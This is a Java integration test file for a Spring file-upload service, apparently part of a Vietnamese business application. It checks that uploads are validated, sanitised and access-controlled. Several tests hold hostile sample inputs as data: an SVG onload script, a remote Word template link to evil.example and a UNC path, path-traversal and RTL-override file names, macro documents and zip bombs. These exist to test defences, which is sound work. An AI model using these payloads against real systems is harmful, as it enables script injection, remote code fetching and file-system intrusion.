package vn.tiendo.file;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.text.Normalizer;
import java.util.List;
import java.util.UUID;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Value;
import org.springframework.boot.test.context.TestConfiguration;
import org.springframework.context.annotation.Bean;
import org.springframework.security.access.AccessDeniedException;
import org.springframework.security.authentication.AuthenticationCredentialsNotFoundException;
import org.springframework.security.authentication.TestingAuthenticationToken;
import org.springframework.security.core.context.SecurityContextHolder;
import org.springframework.transaction.support.TransactionTemplate;
import vn.tiendo.shared.Actor;
import vn.tiendo.shared.Ids;
import vn.tiendo.shared.NotAllowed;
import vn.tiendo.shared.NotFound;
import vn.tiendo.testing.IntegrationTest;

@IntegrationTest
class FileServiceTests {

    private static final FileSubject OPEN = new FileSubject("test-open", Ids.next());
    private static final FileSubject READ_ONLY = new FileSubject("test-read-only", OPEN.id());
    private static final UUID MAI = Ids.next();

    @Autowired
    private FileService files;

    @Autowired
    private TransactionTemplate transactions;

    @Value("${tiendo.data-directory}")
    private Path dataDirectory;

    @TestConfiguration(proxyBeanMethods = false)
    static class Guards {

        @Bean
        FileGuard testGuard() {
            return new FileGuard() {
                @Override
                public boolean knows(String subjectType) {
                    return subjectType.startsWith("test-");
                }

                @Override
                public boolean mayRead(FileSubject subject) {
                    return !subject.type().equals("test-secret");
                }

                @Override
                public boolean mayAdd(FileSubject subject) {
                    return subject.type().equals("test-open");
                }
            };
        }
    }

    @BeforeEach
    void signIn() {
        signIn(MAI, "ROLE_USER");
    }

    @AfterEach
    void signOut() {
        SecurityContextHolder.clearContext();
    }

    @Test
    void keepsContentHashAndFacts() throws IOException {
        UUID id = store("Báo cáo.pdf", TestFiles.pdf());

        StoredFile facts = files.facts(id);
        assertThat(facts.name()).isEqualTo("Báo cáo.pdf");
        assertThat(facts.contentType()).isEqualTo("application/pdf");
        assertThat(facts.size()).isEqualTo(TestFiles.pdf().length);
        assertThat(facts.sha256()).hasSize(64);
        assertThat(facts.uploadedBy()).isEqualTo(MAI);
        assertThat(files.open(id).path())
                .hasBinaryContent(TestFiles.pdf())
                .hasParent(
                        dataDirectory.resolve("files/2022/09").toAbsolutePath().normalize());
        assertThat(files.of(OPEN)).contains(facts);
    }

    @Test
    void takesTheTypesOfTheOffice() {
        assertThat(List.of(
                        type("a.docx", TestFiles.docx()),
                        type("a.xlsx", TestFiles.xlsx()),
                        type("a.PNG", TestFiles.png())))
                .allMatch(type -> !type.isBlank())
                .doesNotHaveDuplicates();
    }

    @Test
    void refusesContentOtherThanItsName() {
        refuses("a.docx", TestFiles.pdf());
        refuses("a.pdf", TestFiles.docx());
        refuses("a.docx", TestFiles.xlsx());
        refuses("a.pdf.exe", TestFiles.pdf());
        refuses("pdf", TestFiles.pdf());
        refuses("a.pdf", TestFiles.text("<html>%PDF-1.7"));
        refuses("a.png", TestFiles.text("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"));
        refuses("a.pdf", new byte[0]);
    }

    @Test
    void refusesMacrosWhateverTheName() {
        refuses("a.docx", TestFiles.docm());
        refuses("a.docm", TestFiles.docm());
        refuses("a.docx", TestFiles.docxWith("word/vbaProject.bin", new byte[10]));
    }

    @Test
    void refusesTemplatesFetchedFromElsewhere() {
        String relation = "<Relationships><Relationship Id=\"r\" Type=\"http://schemas.openxmlformats.org/"
                + "officeDocument/2006/relationships/attachedTemplate\" Target=\"%s\" TargetMode=\"External\"/></Relationships>";
        String part = "word/_rels/settings.xml.rels";

        refuses("a.docx", TestFiles.docxWith(part, TestFiles.text(relation.formatted("https://evil.example/a.dotm"))));
        refuses("a.docx", TestFiles.docxWith(part, TestFiles.text(relation.formatted("\\\\10.0.0.1\\a.dotm"))));
        store("a.docx", TestFiles.docxWith(part, TestFiles.text(relation.formatted("file:///C:\\Normal.dotm"))));
    }

    @Test
    void refusesZipBombs() {
        tooLarge("a.docx", TestFiles.docxWith("word/bomb", new byte[20 * 1024 * 1024]));
        tooLarge("a.docx", TestFiles.docxOfManyEntries(2_000));
    }

    @Test
    void cutsOffWhatIsLargerThanTheLimitAndLeavesNothing() {
        assertThatExceptionOfType(FileTooLarge.class)
                .isThrownBy(() -> files.store(OPEN, "a.pdf", TestFiles.endless(10L * 1024 * 1024 * 1024)));

        assertThat(dataDirectory.resolve("files/arriving")).isEmptyDirectory();
    }

    @Test
    void composesVietnameseLettersOfNames() {
        String decomposed = Normalizer.normalize("Kế hoạch số 12.pdf", Normalizer.Form.NFD);

        assertThat(nameOf(decomposed)).isEqualTo("Kế hoạch số 12.pdf");
    }

    @Test
    void cleansNamesOfFoldersAndWhatIsInvisible() {
        assertThat(nameOf("../../etc/a.pdf")).isEqualTo("a.pdf");
        assertThat(nameOf("C:\\Users\\a.pdf")).isEqualTo("a.pdf");
        assertThat(nameOf("a\u202Efdp.\u0000b\r\n.pdf")).isEqualTo("afdp.b.pdf");
        assertThat(nameOf("ấ".repeat(4096) + ".pdf")).hasSize(200).endsWith(".pdf");
    }

    @Test
    void removesTheFileWhenTheTransactionRollsBack() {
        Path path = transactions.execute(transaction -> {
            Path kept = files.open(store("a.pdf", TestFiles.pdf())).path();
            assertThat(kept).exists();
            transaction.setRollbackOnly();
            return kept;
        });

        assertThat(path).doesNotExist();
    }

    @Test
    void hidesSubjectsThatNoRoomKnowsOrLetsRead() throws IOException {
        assertNotFound(() -> files.store(new FileSubject("unknown", MAI), "a.pdf", TestFiles.stream(TestFiles.pdf())));
        assertNotFound(() -> files.store(READ_ONLY, "a.pdf", TestFiles.stream(TestFiles.pdf())));
        assertNotFound(() -> files.of(new FileSubject("unknown", MAI)));
        assertNotFound(() -> files.of(new FileSubject("test-secret", MAI)));
        assertNotFound(() -> files.facts(Ids.next()));
        assertThat(files.of(READ_ONLY)).isEmpty();
        try (Stream<Path> left = Files.list(dataDirectory.resolve("files/arriving"))) {
            assertThat(left).isEmpty();
        }
    }

    @Test
    void isTakenBackByItsUploaderOnly() {
        UUID id = store("a.pdf", TestFiles.pdf());
        Path path = files.open(id).path();

        signIn(Ids.next(), "ROLE_USER");
        assertThatExceptionOfType(NotAllowed.class).isThrownBy(() -> files.remove(id));
        assertThat(path).exists();

        signIn(MAI, "ROLE_USER");
        files.remove(id);
        assertThat(path).doesNotExist();
        assertNotFound(() -> files.facts(id));
    }

    @Test
    void isClosedToWhoHasNoBusinessRights() {
        signIn(MAI, "ROLE_ADMIN");
        assertThatExceptionOfType(AccessDeniedException.class).isThrownBy(() -> files.of(OPEN));

        SecurityContextHolder.clearContext();
        assertThatExceptionOfType(AuthenticationCredentialsNotFoundException.class)
                .isThrownBy(() -> files.of(OPEN));
    }

    private static void signIn(UUID person, String right) {
        Actor actor = new Actor(person, "Mai", null);
        SecurityContextHolder.getContext()
                .setAuthentication(new TestingAuthenticationToken((Actor.Source) () -> actor, null, right));
    }

    private UUID store(String name, byte[] content) {
        return files.store(OPEN, name, TestFiles.stream(content));
    }

    private String type(String name, byte[] content) {
        return files.facts(store(name, content)).contentType();
    }

    private String nameOf(String sent) {
        return files.facts(store(sent, TestFiles.pdf())).name();
    }

    private void refuses(String name, byte[] content) {
        assertThatExceptionOfType(FileTypeRefused.class).isThrownBy(() -> store(name, content));
    }

    private void tooLarge(String name, byte[] content) {
        assertThatExceptionOfType(FileTooLarge.class).isThrownBy(() -> store(name, content));
    }

    private static void assertNotFound(Runnable asking) {
        assertThatExceptionOfType(NotFound.class).isThrownBy(asking::run);
    }
}
